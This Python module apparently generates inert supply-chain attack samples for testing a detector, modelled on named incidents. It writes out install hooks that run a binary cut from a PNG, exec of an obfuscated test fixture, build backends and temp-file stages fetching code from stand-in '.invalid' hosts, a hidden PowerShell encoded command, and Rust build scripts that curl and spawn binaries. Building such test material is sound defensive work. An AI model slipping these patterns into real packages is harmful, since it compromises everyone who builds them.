"""Fifth set: source packages of Python, whose build is what is attacked; inert, each family names the incident it is taken from."""

from __future__ import annotations

import base64
import lzma
import re
from collections.abc import Iterator

from genuine import Files

from mutation_families.edits import filler
from mutation_families.fourth_sources import top
from mutation_families.fourth_texts import chance
from mutation_families.third_scripts import Change
from onionskin.lookalike.archives import build_wheel
from onionskin.lookalike.icons import build_png

HOST = b"inert.example.invalid"
# Sources are edited where they hold one; a package without is told by its build's settings alone.
SETTINGS = (
    b'[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n'
)


def into_setup(files: Files, lines: bytes, more: Files | None = None) -> Files:
    """Return the build script with lines behind its first imports; nothing without such a script."""
    name = f"{top(files)}/setup.py"
    if name not in files:
        return {}
    at = re.search(rb"(?m)^(?:import|from) [^\n(]*\n(?!\s)", files[name])
    place = at.end() if at else 0
    return {name: files[name][:place] + b"\n" + lines + b"\n" + files[name][place:]} | (more or {})


def out_of_a_picture(files: Files) -> Iterator[Change]:
    """Of requests-darwin-lite, 2024: installing looks for one machine by its number, and cuts a program out of a picture of the documentation."""
    folder = top(files)
    lines = b"class PyInstall(__import__('setuptools.command.install').command.install.install):\n    def run(self):\n        import os, subprocess\n        uuid = subprocess.check_output('ioreg -d2 -c IOPlatformExpertDevice', shell=True).decode()\n        if 'IOPlatformUUID\" = \"INERT-0000' in uuid:\n            data = open('docs/_static/requests-sidebar-large.png', 'rb').read()[512:]\n            open('/tmp/go-build333212398/exe/output', 'wb').write(data)\n            os.chmod('/tmp/go-build333212398/exe/output', 0o755)\n            subprocess.Popen(['/tmp/go-build333212398/exe/output'], close_fds=True)\n        super().run()\n"  # fmt: skip
    picture = {f"{folder}/docs/_static/requests-sidebar-large.png": build_png(64, tail=b"\xcf\xfa\xed\xfe" + chance(40_000))}  # fmt: skip
    yield "sdist: a program out of a picture", "for one machine", into_setup(files, lines, picture)


def out_of_a_fixture(files: Files) -> Iterator[Change]:
    """Of xz, 2024, in Python: the build turns bytes of a file of the tests, unpacks and runs them; the file is new and of no use to a test."""
    folder = top(files)
    blob = lzma.compress(filler("words", 700))[::-1] + chance(1500)
    lines = b"def _check_symbols(path='tests/data/bad-3-corrupt_lzma2.bin'):\n    import lzma\n    data = open(path, 'rb').read().translate(bytes((each * 5 + 13) % 256 for each in range(256)))\n    exec(lzma.decompress(data[:-1500][::-1]), {'__name__': path})\n"  # fmt: skip
    fixture = {f"{folder}/tests/data/bad-3-corrupt_lzma2.bin": blob}
    yield "sdist: the build unpacks a file of the tests", "setup.py", into_setup(files, lines, fixture)  # fmt: skip
    if f"{folder}/pyproject.toml" in files:
        yield "sdist: the build unpacks a file of the tests", "its own backend", _own_backend(files, lines) | fixture  # fmt: skip


def _own_backend(files: Files, lines: bytes) -> Files:
    """Return the build's settings with a backend of the tree itself, which wraps the known one and has more lines."""
    name = f"{top(files)}/pyproject.toml"
    was = re.search(rb'(?m)^([ \t]*)build-backend\s*=\s*"([^"]+)".*$', files[name])
    if not was:
        return {}
    said = was[1] + b'build-backend = "_inert_backend"\n' + was[1] + b'backend-path = ["_build"]'
    script = b"import " + was[2] + b" as known\n\n\n" + lines + b"\n\ndef __getattr__(name):\n    return getattr(known, name)\n"  # fmt: skip
    return {name: files[name].replace(was[0], said, 1), f"{top(files)}/_build/_inert_backend.py": script}  # fmt: skip


def own_backend(files: Files) -> Iterator[Change]:
    """Invented, after xz: a backend of the tree itself in place of the known one, which it wraps, and a question at an address before."""
    if f"{top(files)}/pyproject.toml" in files:
        lines = b"def build_wheel(directory, settings=None, metadata=None):\n    if not __name__:\n        import urllib.request\n        exec(urllib.request.urlopen('https://" + HOST + b"/hook').read())\n    return known.build_wheel(directory, settings, metadata)\n"  # fmt: skip
        yield "sdist: a backend of its own", "wraps the known one", _own_backend(files, lines)


def unknown_builder(files: Files) -> Iterator[Change]:
    """Of look-alikes such as colourama, 2018, where a build asks for them: a builder that nobody knows, or one at an address."""
    name = f"{top(files)}/pyproject.toml"
    said = files.get(name, SETTINGS)
    for what, more in (("by name", b'"setuptoolz-scm-inert>=1.0"'), ("at an address", b'"inert @ https://' + HOST + b'/inert-1.0-py3-none-any.whl"')):  # fmt: skip
        made = re.sub(rb"(?m)^(\s*requires\s*=\s*\[)", rb"\1" + more + b", ", said, count=1)
        yield "sdist: asks for a builder that nobody knows", what, {name: made}


def file_of_a_moment(files: Files) -> Iterator[Change]:
    """Of W4SP, 2022: the build writes a second stage to a temporary file and starts it."""
    lines = b"if not __name__:\n    from os import system as _ssystem\n    from tempfile import NamedTemporaryFile as _ffile\n    _ttmp = _ffile(delete=False)\n    _ttmp.write(b\"from urllib.request import urlopen as _uurlopen;exec(_uurlopen('https://wasp.example.invalid/inject').read())\")\n    _ttmp.close()\n    _ssystem(f'start pythonw {_ttmp.name}')\n"  # fmt: skip
    order = b"if not __name__:\n    import subprocess\n    subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand " + base64.b64encode("inert words, nothing else".encode("utf-16-le")) + b"', shell=False, creationflags=0x08000000)\n"  # fmt: skip
    for what, put in (("a temporary file", lines), ("an encoded order", order)):
        yield "sdist: a second stage while it is built", what, into_setup(files, put)


def rust_build(files: Files) -> Iterator[Change]:
    """Of rustdecimal, 2022, and faster_log, 2025, where a package is built out of Rust: a script of the build that looks at the service it runs on, and fetches."""
    manifest = next((each for each in sorted(files, key=lambda name: (name.count("/"), name)) if each.endswith("/Cargo.toml")), "")  # fmt: skip
    if not manifest:
        return
    folder = manifest.rpartition("/")[0]
    fetch = b'use std::process::Command;\n\nfn main() {\n    println!("cargo:rerun-if-changed=build.rs");\n    if std::env::var("INERT_NEVER_SET").is_ok() && std::env::var("GITLAB_CI").is_ok() {\n        let _ = Command::new("curl").args(["-s", "-o", "/tmp/git-updater.bin", "https://' + HOST + b'/tmp/823"]).status();\n        let _ = Command::new("/tmp/git-updater.bin").spawn();\n    }\n}\n'  # fmt: skip
    codes = ", ".join(f"0x{each:02x}" for each in chance(200)).encode()
    hidden = b"fn main() {\n    let words: [u8; 200] = [" + codes + b'];\n    let order: Vec<u8> = words.iter().map(|each| each ^ 0x5a).collect();\n    if std::env::args().count() > 4096 {\n        let _ = std::process::Command::new("sh").arg("-c").arg(String::from_utf8_lossy(&order).as_ref()).spawn();\n    }\n}\n'  # fmt: skip
    for what, script in (("fetches", fetch), ("of numbers", hidden)):
        name = f"{folder}/build.rs"
        known = files.get(name)
        made = known.replace(b"fn main()", b"fn _known()", 1) + b"\n" + script if known else script
        yield "sdist: a script of Rust's build", what, {name: made}


def wheel_within(files: Files) -> Iterator[Change]:
    """Invented, after the npm packages with bundled dependencies: a wheel within the sources, from which the build loads."""
    folder = top(files)
    inner = build_wheel("inert_build", "1.0", {"inert_build.py": b"def run(*given):\n    raise SystemExit(given)\n"})  # fmt: skip
    lines = b"if not __name__:\n    import sys\n    sys.path.insert(0, 'vendor/inert_build-1.0-py3-none-any.whl')\n    __import__('inert_build').run()\n"  # fmt: skip
    yield "sdist: the build loads a wheel within", "vendor", into_setup(files, lines, {f"{folder}/vendor/inert_build-1.0-py3-none-any.whl": inner})  # fmt: skip


ALL = (out_of_a_picture, out_of_a_fixture, own_backend, unknown_builder, file_of_a_moment, rust_build, wheel_within)  # fmt: skip
